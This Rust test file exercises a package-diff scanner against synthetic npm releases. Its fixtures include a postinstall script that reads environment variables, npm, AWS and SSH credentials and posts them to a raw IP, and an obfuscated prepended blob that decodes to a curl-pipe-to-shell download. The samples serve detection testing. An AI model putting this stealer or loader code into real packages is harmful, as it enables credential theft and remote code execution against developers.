//! End-to-end tests of `bulwark diff` on realistic version pairs written by the test: a benign
//! patch release, a patch that adds a postinstall credential stealer, and a patch that
//! prepends an obfuscated blob to the entry file; as directories, as tarballs, and from a
//! loopback fixture registry. Packages are only ever read, never run.

mod common;

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Output;

use common::{
    bulwark_command, json, npm_trust_fixtures, pack, read, run, serve, sri_sha512, write,
};

fn bulwark(args: &[&str]) -> Output {
    run(bulwark_command().args(args).env_remove("BULWARK_REGISTRY"))
}

const INDEX_V1: &str = "'use strict';\n\
const pad = require('./lib/pad');\n\
\n\
module.exports = function format(value, width) {\n\
  return pad(String(value), width);\n\
};\n";

const PAD_V1: &str = "module.exports = function pad(text, width) {\n\
  while (text.length < width) text = ' ' + text;\n\
  return text;\n\
};\n";

/// `text-format@1.4.2`: a small, clean library.
fn write_old(dir: &Path) {
    write(
        &dir.join("package.json"),
        r#"{
  "name": "text-format",
  "version": "1.4.2",
  "description": "Pads and formats values",
  "main": "index.js",
  "scripts": { "test": "node test.js" },
  "dependencies": { "ansi-regex": "^5.0.1" },
  "license": "MIT"
}
"#,
    );
    write(&dir.join("index.js"), INDEX_V1);
    write(&dir.join("lib/pad.js"), PAD_V1);
    write(&dir.join("README.md"), "# text-format\n\nPads values.\n");
}

/// `1.4.3`, a genuine patch: a bug fix in `pad.js`, a README line and a dependency range bump.
fn write_benign_patch(dir: &Path) {
    write(
        &dir.join("package.json"),
        r#"{
  "name": "text-format",
  "version": "1.4.3",
  "description": "Pads and formats values",
  "main": "index.js",
  "scripts": { "test": "node test.js" },
  "dependencies": { "ansi-regex": "^5.0.2" },
  "license": "MIT"
}
"#,
    );
    write(&dir.join("index.js"), INDEX_V1);
    write(
        &dir.join("lib/pad.js"),
        "module.exports = function pad(text, width) {\n\
  if (typeof width !== 'number' || width <= text.length) return text;\n\
  return ' '.repeat(width - text.length) + text;\n\
};\n",
    );
    write(
        &dir.join("README.md"),
        "# text-format\n\nPads values.\n\n## 1.4.3\n\nFixes padding of long strings.\n",
    );
}

/// `1.4.3` as an attacker publishes it with a stolen token: a postinstall that reads the npm
/// token and cloud credentials and posts them with the environment to a raw IP.
fn write_stealer_patch(dir: &Path) {
    write(
        &dir.join("package.json"),
        r#"{
  "name": "text-format",
  "version": "1.4.3",
  "description": "Pads and formats values",
  "main": "index.js",
  "scripts": { "test": "node test.js", "postinstall": "node lib/telemetry.js" },
  "dependencies": { "ansi-regex": "^5.0.1" },
  "license": "MIT"
}
"#,
    );
    write(&dir.join("index.js"), INDEX_V1);
    write(&dir.join("lib/pad.js"), PAD_V1);
    write(&dir.join("README.md"), "# text-format\n\nPads values.\n");
    write(
        &dir.join("lib/telemetry.js"),
        "const fs = require('fs');\n\
const os = require('os');\n\
const path = require('path');\n\
const https = require('https');\n\
const home = os.homedir();\n\
const loot = { env: process.env };\n\
for (const file of ['.npmrc', '.aws/credentials', '.ssh/id_rsa']) {\n\
  try { loot[file] = fs.readFileSync(path.join(home, file), 'utf8'); } catch (e) {}\n\
}\n\
const req = https.request('https://45.61.12.9/upload', { method: 'POST' });\n\
req.write(JSON.stringify(loot));\n\
req.end();\n",
    );
}

/// `1.4.3` with an obfuscator.io-style blob prepended to the entry file, the old code intact
/// below it.
fn write_prepend_patch(dir: &Path) {
    write_benign_patch(dir);
    let table: Vec<String> = (0..60)
        .map(|i| {
            format!(
                "'\\x{:02x}\\x{:02x}\\x{:02x}\\x{:02x}'",
                0x61 + i % 20,
                0x62,
                0x63 + i % 7,
                0x64
            )
        })
        .collect();
    let blob = format!(
        "var _0x4f2a=[{}];(function(_0x1b2c,_0x4d5e){{var _0x2f1a=function(_0x3c4b){{while(--_0x3c4b){{_0x1b2c['push'](_0x1b2c['shift']());}}}};_0x2f1a(++_0x4d5e);}}(_0x4f2a,0x1a3));var _0x2b1c=function(_0x1e2f,_0x3a4b){{_0x1e2f=_0x1e2f-0x0;var _0x5c6d=_0x4f2a[_0x1e2f];return _0x5c6d;}};global[_0x2b1c('0x0')](Buffer['from']('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cDovLzQ1LjYxLjEyLjkveCB8IHNoJyk=','base64')['toString']());",
        table.join(",")
    );
    write(&dir.join("index.js"), format!("{blob}\n{INDEX_V1}"));
}

fn diff_json(old: &Path, new: &Path, extra: &[&str]) -> (Option<i32>, serde_json::Value) {
    let mut args = vec![
        "diff".to_owned(),
        old.display().to_string(),
        new.display().to_string(),
        "--format".to_owned(),
        "json".to_owned(),
    ];
    args.extend(extra.iter().map(|a| (*a).to_owned()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let output = bulwark(&args);
    (output.status.code(), json(&output))
}

fn pair(make_new: fn(&Path)) -> (tempfile::TempDir, PathBuf, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let old = dir.path().join("old");
    let new = dir.path().join("new");
    write_old(&old);
    make_new(&new);
    (dir, old, new)
}

fn changes<'a>(diff: &'a serde_json::Value, kind: &str) -> Vec<&'a serde_json::Value> {
    diff["changes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["kind"] == kind)
        .collect()
}

#[test]
fn benign_patch_adds_no_capability() {
    let (_dir, old, new) = pair(write_benign_patch);
    let (code, diff) = diff_json(&old, &new, &["--fail-on", "suspicious"]);
    assert_eq!(code, Some(0), "{diff:#}");
    assert_eq!(diff["bump"], "patch");
    assert_eq!(diff["old"]["version"], "1.4.2");
    assert_eq!(diff["new"]["version"], "1.4.3");
    assert_eq!(diff["new"]["verdict"], "clean");
    assert!(
        diff["level"].is_null() || diff["level"] == "info",
        "{diff:#}"
    );
    assert_eq!(diff["files"]["changed"], 3, "{diff:#}");
    assert_eq!(diff["files"]["added"], 0);

    let human = bulwark(&[
        "diff",
        &old.display().to_string(),
        &new.display().to_string(),
    ]);
    assert_eq!(human.status.code(), Some(0));
    let text = String::from_utf8(human.stdout).unwrap();
    assert!(
        text.contains("text-format 1.4.2 → 1.4.3 (patch bump)"),
        "{text}"
    );
}

#[test]
fn postinstall_credential_stealer_in_a_patch_is_flagged() {
    let (_dir, old, new) = pair(write_stealer_patch);
    let (code, diff) = diff_json(&old, &new, &[]);
    assert_eq!(code, Some(1), "{diff:#}");
    assert_eq!(diff["level"], "malicious");
    let hooks = changes(&diff, "lifecycle-script");
    assert_eq!(hooks.len(), 1, "{diff:#}");
    assert_eq!(hooks[0]["level"], "malicious");
    assert_eq!(hooks[0]["after"], "node lib/telemetry.js");
    assert!(hooks[0]["before"].is_null());
    assert!(
        hooks[0]["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["file"] == "lib/telemetry.js"),
        "the hook's evidence comes from the file it runs: {diff:#}"
    );
    let capabilities: Vec<&str> = changes(&diff, "capability")
        .iter()
        .filter(|c| c["file"] == "lib/telemetry.js")
        .filter_map(|c| c["capability"].as_str())
        .collect();
    assert!(
        capabilities.contains(&"credentials") && capabilities.contains(&"network"),
        "{capabilities:?}"
    );

    // Human output: grouped, with evidence.
    let human = bulwark(&[
        "diff",
        &old.display().to_string(),
        &new.display().to_string(),
    ]);
    assert_eq!(human.status.code(), Some(1));
    let text = String::from_utf8(human.stdout).unwrap();
    assert!(
        text.contains("Install-time code")
            && text.contains("MALICIOUS")
            && text.contains("new `postinstall` script in a patch release")
            && text.contains("--> lib/telemetry.js:"),
        "{text}"
    );
    // `--fail-on never` reports without failing.
    let (code, _) = diff_json(&old, &new, &["--fail-on", "never"]);
    assert_eq!(code, Some(0));
}

#[test]
fn obfuscated_blob_prepended_to_the_entry_file_is_flagged() {
    let (_dir, old, new) = pair(write_prepend_patch);
    let (code, diff) = diff_json(&old, &new, &[]);
    assert_eq!(code, Some(1), "{diff:#}");
    let prepends = changes(&diff, "entry-prepend");
    assert_eq!(prepends.len(), 1, "{diff:#}");
    assert_eq!(prepends[0]["file"], "index.js");
    assert_eq!(prepends[0]["level"], "malicious");
    assert!(
        prepends[0]["after"]
            .as_str()
            .unwrap()
            .starts_with("var _0x4f2a=")
    );
    assert!(changes(&diff, "lifecycle-script").is_empty());
}

#[test]
fn tarballs_compare_like_directories() {
    let (dir, old, new) = pair(write_stealer_patch);
    let old_tgz = dir.path().join("old.tgz");
    let new_tgz = dir.path().join("new.tgz");
    pack(&old, &old_tgz);
    pack(&new, &new_tgz);
    let (code, from_dirs) = diff_json(&old, &new, &[]);
    let (tgz_code, from_tarballs) = diff_json(&old_tgz, &new_tgz, &[]);
    assert_eq!(code, tgz_code);
    assert_eq!(from_dirs["changes"], from_tarballs["changes"]);

    let output = bulwark(&["diff", &old.display().to_string(), "/nonexistent/x.tgz"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("/nonexistent/x.tgz"));
}

#[test]
fn registry_versions_are_downloaded_and_verified() {
    let (dir, old, new) = pair(write_stealer_patch);
    let old_tgz = dir.path().join("old.tgz");
    let new_tgz = dir.path().join("new.tgz");
    pack(&old, &old_tgz);
    pack(&new, &new_tgz);
    let old_bytes = std::fs::read(&old_tgz).unwrap();
    let new_bytes = std::fs::read(&new_tgz).unwrap();

    let registry = Registry::start(old_bytes.clone(), new_bytes.clone(), &[]);
    let output = bulwark(&[
        "diff",
        "text-format",
        "1.4.2",
        "1.4.3",
        "--registry",
        &registry,
        "-f",
        "json",
    ]);
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let diff = json(&output);
    assert_eq!(diff["level"], "malicious");
    assert_eq!(changes(&diff, "lifecycle-script").len(), 1);

    // A new tarball that does not match the packument is never analysed.
    let mut tampered = new_bytes;
    let last = tampered.len() - 1;
    tampered[last] ^= 0xff;
    let registry = Registry::start(
        old_bytes,
        tampered,
        &[&sri_sha512(&std::fs::read(&new_tgz).unwrap())],
    );
    let output = bulwark(&[
        "diff",
        "text-format",
        "1.4.2",
        "1.4.3",
        "--registry",
        &registry,
    ]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("integrity mismatch"), "{stderr}");
}

/// A loopback registry serving one packument with versions 1.4.2 and 1.4.3 and their
/// tarballs.
struct Registry;

impl Registry {
    /// `integrity_override`: the 1.4.3 integrity to publish instead of the served bytes' own.
    fn start(old: Vec<u8>, new: Vec<u8>, integrity_override: &[&str]) -> String {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let new_integrity = integrity_override
            .first()
            .map_or_else(|| sri_sha512(&new), |s| (*s).to_owned());
        let packument = serde_json::to_vec(&serde_json::json!({
            "name": "text-format",
            "dist-tags": { "latest": "1.4.3" },
            "versions": {
                "1.4.2": { "name": "text-format", "version": "1.4.2", "dist": {
                    "tarball": format!("{base}/text-format/-/text-format-1.4.2.tgz"),
                    "integrity": sri_sha512(&old) }},
                "1.4.3": { "name": "text-format", "version": "1.4.3", "dist": {
                    "tarball": format!("{base}/text-format/-/text-format-1.4.3.tgz"),
                    "integrity": new_integrity }}
            }
        }))
        .unwrap();
        std::thread::spawn(move || {
            // Two packument fetches and two tarballs at most.
            for stream in listener.incoming().take(6) {
                let Ok(mut stream) = stream else { continue };
                let mut buffer = [0_u8; 4096];
                let read = stream.read(&mut buffer).unwrap_or(0);
                let request = String::from_utf8_lossy(&buffer[..read]);
                let body = if request.starts_with("GET /text-format/-/text-format-1.4.2.tgz") {
                    &old
                } else if request.starts_with("GET /text-format/-/text-format-1.4.3.tgz") {
                    &new
                } else {
                    &packument
                };
                let header = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                );
                let _ = stream.write_all(header.as_bytes());
                let _ = stream.write_all(body);
            }
        });
        base
    }
}

fn trust_fixture(path: &str) -> Vec<u8> {
    read(&npm_trust_fixtures().join(path))
}

/// A loopback registry for `@laurentsimon/provenance-npm-test` assembled from the npm-trust
/// fixtures: 1.0.3 and 1.0.5 with their real tarballs and attestation responses, and a
/// synthetic 1.0.6 that republishes the 1.0.5 tarball without provenance.
fn provenance_registry() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let name = "@laurentsimon/provenance-npm-test";
    let mut files = std::collections::HashMap::new();
    let mut versions = serde_json::Map::new();
    for (version, tarball, attestations) in [
        (
            "1.0.3",
            "tarballs/laurentsimon-provenance-npm-test-1.0.3.tgz",
            Some("attestations/valid/laurentsimon-provenance-npm-test-1.0.3.slsa-v0.2.json"),
        ),
        (
            "1.0.5",
            "tarballs/laurentsimon-provenance-npm-test-1.0.5.tgz",
            Some("attestations/valid/laurentsimon-provenance-npm-test-1.0.5.slsa-v0.2.json"),
        ),
        (
            "1.0.6",
            "tarballs/laurentsimon-provenance-npm-test-1.0.5.tgz",
            None,
        ),
    ] {
        let bytes = trust_fixture(tarball);
        let path = format!("/{name}/-/provenance-npm-test-{version}.tgz");
        let mut dist = serde_json::json!({"tarball": format!("{base}{path}"), "integrity": sri_sha512(&bytes)});
        if let Some(attestations) = attestations {
            let url = format!("/-/npm/v1/attestations/{name}@{version}");
            dist["attestations"] = serde_json::json!({"url": format!("{base}{url}"), "provenance": {"predicateType": "https://slsa.dev/provenance/v0.2"}});
            files.insert(url, trust_fixture(attestations));
        }
        files.insert(path, bytes);
        versions.insert(
            version.to_owned(),
            serde_json::json!({"name": name, "version": version, "dist": dist}),
        );
    }
    let packument = serde_json::json!({"name": name, "versions": versions, "time": {
        "1.0.3": "2023-04-20T00:00:00Z", "1.0.5": "2023-04-21T00:00:00Z", "1.0.6": "2023-04-22T00:00:00Z"}});
    files.insert(format!("/{name}"), serde_json::to_vec(&packument).unwrap());
    serve(files, listener);
    base
}

/// 1.0.3 → 1.0.5: both have verified provenance, but 1.0.5 was built by another workflow and
/// builder (the slsa-github-generator): the trust section says so, as a suspicious change.
#[test]
fn trust_section_reports_a_provenance_change() {
    let base = provenance_registry();
    let name = "@laurentsimon/provenance-npm-test";
    let output = bulwark(&[
        "diff",
        name,
        "1.0.3",
        "1.0.5",
        "--registry",
        &base,
        "--format",
        "json",
        "--fail-on",
        "suspicious",
    ]);
    let diff = json(&output);
    assert_eq!(output.status.code(), Some(1), "{diff:#}");
    let trust = &diff["trust"];
    assert_eq!(
        trust["old"]["provenance"]["workflow"],
        ".github/workflows/release.yml"
    );
    assert_eq!(
        trust["new"]["provenance"]["workflow"],
        ".github/workflows/release-slsa3.yml"
    );
    assert_eq!(
        trust["old"]["provenance"]["repository"],
        trust["new"]["provenance"]["repository"]
    );
    let kinds: Vec<&str> = trust["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["change"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["workflow-changed", "builder-changed"]);
    assert!(
        diff["changes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["kind"] == "trust" && c["level"] == "suspicious")
    );
    let human = bulwark(&["diff", name, "1.0.3", "1.0.5", "--registry", &base]);
    let text = String::from_utf8_lossy(&human.stdout);
    assert!(
        text.contains("Trust")
            && text.contains("provenance workflow changed from .github/workflows/release.yml"),
        "{text}"
    );
}

/// 1.0.5 → 1.0.6: the same code republished without provenance is a trust downgrade.
#[test]
fn trust_section_reports_dropped_provenance() {
    let base = provenance_registry();
    let output = bulwark(&[
        "diff",
        "@laurentsimon/provenance-npm-test",
        "1.0.5",
        "1.0.6",
        "--registry",
        &base,
        "--format",
        "json",
    ]);
    let diff = json(&output);
    let kinds: Vec<&str> = diff["trust"]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["change"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["provenance-dropped"], "{diff:#}");
    assert_eq!(diff["trust"]["new"]["has_provenance"], false);
    // Gaining provenance is no finding.
    let output = bulwark(&[
        "diff",
        "@laurentsimon/provenance-npm-test",
        "1.0.6",
        "1.0.5",
        "--registry",
        &base,
        "--format",
        "json",
    ]);
    assert_eq!(json(&output)["trust"]["changes"], serde_json::json!([]));
}
